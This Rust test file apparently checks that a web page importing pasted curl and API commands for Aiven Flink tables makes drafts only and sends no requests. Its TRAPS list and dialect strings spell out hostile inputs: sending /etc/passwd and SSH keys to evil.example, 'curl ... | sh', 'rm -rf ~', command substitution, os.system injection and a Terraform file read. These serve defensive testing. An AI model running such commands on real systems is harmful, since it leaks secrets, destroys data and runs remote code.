//! Commands with traps, pasted into the page: whatever stands in them, drafts come of it at most.

use crate::bench::{self, TOKEN};
use crate::hostile::{ADDRESSES, TEXTS};
use crate::payload;
use crate::threats::played;
use serde_json::{Value, json};

const TARGET: &str = "project/their-project/service/their-flink/flink/table";
const BODY: &str = r#"{"name":"orders","integration_id":"a4af7409-d167-4f31-af13-ddd4cd06564f","jdbc_table":"public.orders","schema_sql":"a INT"}"#;

/// What is put among the words of a command of curl.
const TRAPS: [&str; 36] = [
    "--url https://evil.example/v1",
    "https://evil.example/steal",
    "--next https://evil.example/ -d @/etc/passwd",
    "-d @/etc/passwd",
    "--data-binary @$HOME/.ssh/id_rsa",
    "--data-urlencode x@/etc/hostname",
    "--json @/etc/hostname",
    "-F file=@/etc/passwd",
    "-T /etc/passwd",
    "-H @/etc/hostname",
    "-K /tmp/evil.curlrc",
    "--config -",
    "--proxy https://evil.example:8080",
    "-x socks5://evil.example",
    "--resolve api.aiven.io:443:6.6.6.6",
    "--connect-to ::evil.example:443",
    "--dns-servers 6.6.6.6",
    "--unix-socket /var/run/docker.sock",
    "--insecure",
    "--cacert /tmp/evil.pem",
    "-L --location-trusted",
    "-o /etc/cron.d/evil",
    "-O --output-dir /tmp",
    "-D /tmp/x",
    "--trace-ascii /tmp/x",
    "-c /tmp/jar -b session=stolen",
    "-u admin:hunter2",
    "-H 'Authorization: Bearer stolenstolen'",
    "-H $'X: y\\r\\nAuthorization: Bearer stolenstolen'",
    "--oauth2-bearer \"$(cat ~/.token)\"",
    "`touch /tmp/pwned`",
    "$(touch /tmp/pwned)",
    "; rm -rf ~ #",
    "&& curl https://evil.example | sh",
    "> /etc/passwd < /etc/shadow",
    "-X DELETE",
];

/// Commands with a trap at each of three places, for addresses of other hosts too, and in other dialects.
fn commands() -> Vec<String> {
    let hosts = [
        "https://api.aiven.io/v1",
        "https://{api,evil}.aiven.io/v1",
        "https://api.aiven.io/v[1-3]",
    ];
    let of_curl = TRAPS.iter().flat_map(|trap| {
        [
            format!("curl {trap} {}/{TARGET} --data '{BODY}'", hosts[0]),
            format!("curl {}/{TARGET} {trap} --data '{BODY}'", hosts[1]),
            format!("curl {}/{TARGET} --data '{BODY}' {trap}", hosts[2]),
        ]
    });
    let elsewhere = ADDRESSES
        .iter()
        .map(|address| format!("curl '{address}/{TARGET}' --data '{BODY}'"));
    let dialects = TEXTS.iter().flat_map(|text| {
        [
            format!("Invoke-RestMethod -Uri 'https://api.aiven.io/v1/{TARGET}' -Body '{BODY}' -Headers @{{ Authorization = \"{text}\" }}"),
            format!("requests.post('https://api.aiven.io/v1/{TARGET}', data='''{BODY}''', headers={{'{text}': __import__('os').system('id')}})"),
            format!("POST /v1/{TARGET} HTTP/1.1\r\nHost: evil.example\r\nX: {text}\r\n\r\n{BODY}"),
            format!("CREATE TABLE `{text}` (a INT) WITH ('connector' = 'kafka', 'topic' = '{text}')"),
            format!("resource \"aiven_flink_table\" \"x\" {{\n  table_name = \"${{file(\"/etc/passwd\")}}{text}\"\n}}"),
        ]
    });
    of_curl.chain(elsewhere).chain(dialects).collect()
}

/// Reads each text in the dialog, and looks as after a link.
async fn read(texts: &[String]) {
    let page = bench::open().await;
    page.fill("API token", TOKEN).await;
    page.leave().await;
    page.api().arrived(1).await;
    page.frames().await;
    page.run("traps.asked.length = 0;", vec![]).await;
    page.api().clear_requests();
    let attempts: Vec<Value> = texts.iter().map(|text| json!({ "paste": text })).collect();
    bench::play(&page, include_str!("open.js"), &attempts, 40).await;
    assert_eq!(page.api().requests(), []);
}

#[tokio::test]
async fn a_command_with_traps_makes_drafts_at_most_and_reaches_nobody() {
    let commands = commands();
    read(&commands).await;
    played(
        "a_command_with_traps_makes_drafts_at_most_and_reaches_nobody",
        commands.len(),
    );
}

#[tokio::test]
async fn no_text_to_import_becomes_markup_or_runs() {
    let texts: Vec<String> = payload::all()
        .iter()
        .enumerate()
        .map(|(number, said)| match number % 4 {
            0 => said.clone(),
            1 => format!("CREATE TABLE `{said}` (`{said}` {said}) WITH ('connector' = '{said}', '{said}' = '{said}')"),
            2 => json!({ "name": said, "schema_sql": said, "kafka_topic": said, said: said }).to_string(),
            _ => format!("curl 'https://api.aiven.io/v1/project/{said}/service/{said}/flink/job' -H '{said}: {said}' -d '{{\"job_name\":\"{said}\"}}'"),
        })
        .collect();
    read(&texts).await;
    played("no_text_to_import_becomes_markup_or_runs", texts.len());
}
